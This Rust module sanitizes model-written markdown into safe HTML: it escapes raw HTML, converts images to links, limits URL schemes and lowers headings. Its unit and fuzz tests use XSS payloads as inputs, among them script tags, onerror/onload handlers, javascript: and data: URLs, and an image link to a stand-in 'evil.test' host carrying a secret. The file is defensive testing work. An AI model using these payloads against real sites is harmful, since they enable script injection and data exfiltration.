//! What a model wrote, as safe HTML. It is a stranger's text: raw HTML stays text, nothing is loaded from elsewhere, and
//! a link shows where it leads and opens away from the page.

use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::Builder;
use maud::{Markup, PreEscaped};
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// The second line of defence: whatever the parser lets through, only this stays.
static SAFE: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut safe = Builder::default();
    safe.rm_tags(["img", "area", "map", "figure", "figcaption"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .set_tag_attribute_value("a", "target", "_blank");
    safe
});

pub(super) fn render(text: &str) -> Markup {
    let parser = Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let mut written = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut written, parser.map(tamed));
    PreEscaped(SAFE.clean(&written).to_string())
}

fn tamed(event: Event<'_>) -> Event<'_> {
    match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        // A picture would be fetched from wherever the text says.
        Event::Start(
            Tag::Image { link_type, dest_url, id, .. } | Tag::Link { link_type, dest_url, id, .. },
        ) => {
            let title = dest_url.clone();
            Event::Start(Tag::Link { link_type, dest_url, title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        Event::Start(Tag::Heading { level, id, classes, attrs }) => {
            Event::Start(Tag::Heading { level: lower(level), id, classes, attrs })
        }
        Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(lower(level))),
        other => other,
    }
}

/// The page has its own headings above.
fn lower(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_model_writes_can_do_nothing() {
        for (written, expected) in [
            ("**Two** `new`", "<p><strong>Two</strong> <code>new</code></p>\n"),
            ("# Big", "<h3>Big</h3>\n"),
            ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
            ("a <img src=x onerror=alert(1)> b", "<p>a &lt;img src=x onerror=alert(1)&gt; b</p>\n"),
            (
                "![cat](https://evil.test/?secret)",
                "<p><a href=\"https://evil.test/?secret\" title=\"https://evil.test/?secret\" target=\"_blank\" rel=\"noopener noreferrer\">cat</a></p>\n",
            ),
            (
                "[x](javascript:alert(1))",
                "<p><a title=\"javascript:alert(1)\" target=\"_blank\" rel=\"noopener noreferrer\">x</a></p>\n",
            ),
            (
                "[x](/sign-out)",
                "<p><a title=\"/sign-out\" target=\"_blank\" rel=\"noopener noreferrer\">x</a></p>\n",
            ),
        ] {
            assert_eq!(render(written).into_string(), expected, "{written}");
        }
    }

    /// What stands in the HTML between `<` and `>`; text holds no `<` of its own.
    fn tags(html: &str) -> Vec<String> {
        let (mut tags, mut rest) = (vec![], html);
        while let Some(at) = rest.find('<') {
            let mut quoted = false;
            let inside = &rest[at + 1..];
            let end = inside.find(|c| {
                quoted ^= c == '"';
                c == '>' && !quoted
            });
            let end = end.unwrap_or_else(|| panic!("a tag has no end: {html}"));
            tags.push(inside[..end].to_owned());
            rest = &inside[end + 1..];
        }
        tags
    }

    /// Why a tag must not stand on the page.
    pub(crate) fn objection(tag: &str) -> Option<String> {
        const PLAIN: &[&str] = &[
            "p",
            "strong",
            "em",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "h3",
            "h4",
            "h5",
            "h6",
            "blockquote",
            "hr",
            "br",
            "del",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ];
        let tag = tag.strip_prefix('/').unwrap_or(tag);
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        if PLAIN.contains(&name) {
            let counts = name == "ol"
                && attributes
                    .strip_prefix("start=\"")
                    .is_some_and(|n| n.trim_end_matches('"').parse::<u64>().is_ok());
            return (!attributes.is_empty() && !counts).then(|| tag.to_owned());
        }
        let leads = |to: &str| {
            ["http:", "https:", "mailto:"].iter().any(|scheme| to.to_lowercase().starts_with(scheme))
        };
        let link = name == "a" && attributes.ends_with("target=\"_blank\" rel=\"noopener noreferrer\"");
        let href = attributes.strip_prefix("href=\"").is_none_or(leads);
        let only = attributes.split("=\"").count() - 1 <= 4 && !attributes.contains(" on");
        (!tag.is_empty() && name != "a" || name == "a" && !attributes.is_empty() && !(link && href && only))
            .then(|| tag.to_owned())
    }

    const WRITTEN: [&str; 6] = [
        "# Head\n\nSome **bold**, *soft* and `code`, see <https://a.test/?a=1&b=2> or [here](https://b.test \"t\").\n\n* a\n* b\n  1. c\n",
        "| a | b |\n|---|:-:|\n| 1 | ~~2~~ |\n\n> quoted\n> > twice\n\n```rust\nfn a() {}\n```\n\n    indented\n\n---\n",
        "![cat](https://evil.test/?d=secret) [![x](http://y)](javascript:alert(1)) [r]: data:text/html,x\n\n[r] [x](<javascript:a b>)",
        "<script>alert(1)</script><img src=x onerror=alert(1)> <a href=\"javascript:a()\" onclick=b()>x</a> <svg/onload=a()>",
        "[x](JaVaScRiPt:alert&#40;1&#41;) [y](\\x01javascript:a) [z](data:text/html;base64,PHNjcmlwdD4=) <javascript:a()>",
        "&lt;script&gt; &#60;script&#62; <!-- x --> <![CDATA[ <b> ]]> <?php ?> <style>*{}</style> <iframe srcdoc='<script>'>",
    ];

    mod fuzz {
        use proptest::prelude::*;

        use super::*;

        proptest! {
            #[test]
            fn whatever_is_written_only_plain_tags_and_links_come_out(text in kai_mutate::text(WRITTEN.map(str::to_owned).to_vec())) {
                let html = render(&text).into_string();
                for tag in tags(&html) {
                    prop_assert_eq!(objection(&tag), None, "{}", html);
                }
            }
        }
    }

    #[test]
    fn what_the_check_is_for_is_objected_to() {
        for tag in [
            "script",
            "img src=\"x\"",
            "p onclick=\"a()\"",
            "a href=\"javascript:a\" target=\"_blank\" rel=\"noopener noreferrer\"",
            "a href=\"https://x\"",
            "svg",
            "style",
            "p class=\"banner\"",
        ] {
            assert!(objection(tag).is_some(), "{tag}");
        }
        for tag in [
            "p",
            "/p",
            "ol start=\"3\"",
            "a href=\"https://x\" title=\"t\" target=\"_blank\" rel=\"noopener noreferrer\"",
            "/a",
        ] {
            assert_eq!(objection(tag), None, "{tag}");
        }
    }

    #[test]
    fn text_that_nests_without_end_ends() {
        for piece in
            [">", "> ", "* ", "[", "![", "**a", "*a_", "`", "<a", "[](", "| a |\n|-|\n", "&", "\n\n1. ", "~~"]
        {
            render(&piece.repeat(20_000));
        }
    }
}
